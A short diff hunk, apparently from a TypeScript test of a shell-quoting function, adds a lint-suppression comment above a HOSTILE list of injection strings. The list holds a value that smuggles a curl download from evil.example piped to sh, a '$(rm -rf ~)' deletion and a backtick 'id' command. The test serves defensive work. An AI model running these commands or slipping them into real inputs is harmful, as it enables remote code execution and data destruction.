@@ -9,6 +9,7 @@ function readBack(quoted: string): string {
 }
 
 const HOSTILE = [
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
   'dns-rg;curl${IFS}-s${IFS}https://evil.example/x|sh',
   '$(rm -rf ~)',
   '`id`',
